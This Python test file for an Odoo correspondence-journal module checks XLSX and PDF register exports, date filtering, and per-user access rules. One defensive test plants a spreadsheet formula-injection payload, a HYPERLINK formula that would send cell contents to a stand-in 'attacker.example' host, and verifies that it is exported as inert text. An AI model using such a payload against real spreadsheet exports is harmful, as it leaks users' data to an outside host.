import html
import io
import re
import zipfile
from datetime import date

from openpyxl import load_workbook

from odoo.exceptions import AccessError
from odoo.tests import tagged

from .common import CorrespondenceCase


@tagged("post_install", "-at_install")
class TestJournal(CorrespondenceCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.may_in_1 = cls._create_item(
            subject="Claim about wardrobe doors", date_registered=date(2021, 5, 5)
        )
        cls.may_in_2 = cls._create_item(
            subject="Request for kitchen catalogue",
            date_registered=date(2021, 5, 20),
            sender_reference="WW-88",
        )
        cls.may_out = cls._create_item(
            direction="outgoing",
            subject="Answer on wardrobe doors",
            date_registered=date(2021, 5, 7),
            reply_to_id=cls.may_in_1.id,
        )
        cls.june_in = cls._create_item(subject="Letter of June", date_registered=date(2021, 6, 1))

    def _wizard(self, direction, user=None):
        wizards = self.env["crm.correspondence.journal.wizard"]
        if user:
            wizards = wizards.with_user(user)
        return wizards.create(
            {
                "date_from": date(2021, 5, 1),
                "date_to": date(2021, 5, 31),
                "direction": direction,
            }
        )

    def _xlsx_rows(self, wizard):
        action = wizard.action_export_xlsx()
        self.assertEqual(action["type"], "ir.actions.act_url")
        self.assertEqual(action["url"], f"/crm_correspondence/journal/{wizard.id}/xlsx")
        workbook = load_workbook(io.BytesIO(wizard._render_xlsx()))
        sheet = workbook.active
        return [[cell.value for cell in row] for row in sheet.iter_rows(min_row=5)], sheet

    def test_xlsx_lists_the_incoming_items_of_the_period(self):
        rows, sheet = self._xlsx_rows(self._wizard("incoming"))
        self.assertEqual(sheet["A1"].value, "Register of Incoming Correspondence")
        self.assertEqual(sheet["A4"].value, "Number")
        self.assertEqual([row[0] for row in rows], [self.may_in_1.name, self.may_in_2.name])
        self.assertEqual(rows[0][1].date(), date(2021, 5, 5))
        self.assertEqual(rows[1][4], "Wardrobe Wholesale LLC")
        self.assertEqual(rows[1][6], "WW-88")
        self.assertEqual(rows[1][7], "Request for kitchen catalogue")
        self.assertEqual(rows[0][11], "Answered")

    def test_xlsx_of_all_directions_includes_outgoing_answers(self):
        rows, _sheet = self._xlsx_rows(self._wizard("all"))
        names = [row[0] for row in rows]
        self.assertEqual(len(names), 3)
        self.assertIn(self.may_out.name, names)
        self.assertNotIn(self.june_in.name, names)
        answer = next(row for row in rows if row[0] == self.may_out.name)
        self.assertEqual(answer[2], "Outgoing")
        self.assertEqual(answer[10], self.may_in_1.name)

    def test_printed_register_lists_the_items_of_the_period(self):
        # a configured document layout, as on any company printing documents
        self.env.company.external_report_layout_id = self.env.ref("web.external_layout_standard")
        wizard = self._wizard("outgoing")
        self.assertEqual(wizard.action_print_pdf()["type"], "ir.actions.report")
        html, _format = self.env["ir.actions.report"]._render_qweb_html(
            "crm_correspondence.crm_correspondence_journal_report", wizard.ids
        )
        html = html.decode()
        self.assertIn("Register of Outgoing Correspondence", html)
        self.assertIn(self.may_out.name, html)
        self.assertNotIn(self.may_in_2.name, html)

    def test_another_user_cannot_read_an_administrators_export(self):
        """The export of an administrator holds every item: nobody else gets at it."""
        admin_wizard = self._wizard("all", user=self.user_petr)
        admin_wizard.action_export_xlsx()
        Wizard = self.env["crm.correspondence.journal.wizard"].with_user(self.user_dmitry)
        self.assertFalse(Wizard.search([("id", "=", admin_wizard.id)]))
        with self.assertRaises(AccessError):
            admin_wizard.with_user(self.user_dmitry).read(["date_from"])
        # nor is any file of it kept on the wizard for anyone to read later
        stored = {
            name for name, field in Wizard._fields.items() if field.type == "binary" and field.store
        }
        self.assertFalse(stored)

    def test_xlsx_lists_only_the_items_the_requesting_user_may_read(self):
        # Dmitry is neither responsible for nor salesperson of the items of the period
        rows, _sheet = self._xlsx_rows(self._wizard("all", user=self.user_dmitry))
        self.assertEqual(rows, [])
        rows, _sheet = self._xlsx_rows(self._wizard("all", user=self.user_marina))
        self.assertEqual(len(rows), 3)

    def test_subjects_are_written_as_text_never_as_formulas_or_links(self):
        formula = '=HYPERLINK("https://attacker.example/?d="&B1,"Open claim")'
        link = "https://attacker.example/claim"
        self._create_item(subject=formula, date_registered=date(2021, 5, 10))
        self._create_item(subject=link, date_registered=date(2021, 5, 11))
        content = self._wizard("incoming")._render_xlsx()
        with zipfile.ZipFile(io.BytesIO(content)) as xlsx:
            sheet_xml = xlsx.read("xl/worksheets/sheet1.xml").decode()
            strings_xml = xlsx.read("xl/sharedStrings.xml").decode()
            names = xlsx.namelist()
        self.assertNotIn("<f>", sheet_xml)
        self.assertNotIn("<hyperlink", sheet_xml)
        self.assertFalse([name for name in names if name.endswith(".rels") and "sheet" in name])
        strings = [html.unescape(text) for text in re.findall(r"<t[^>]*>([^<]*)</t>", strings_xml)]
        self.assertIn(formula, strings)
        self.assertIn(link, strings)
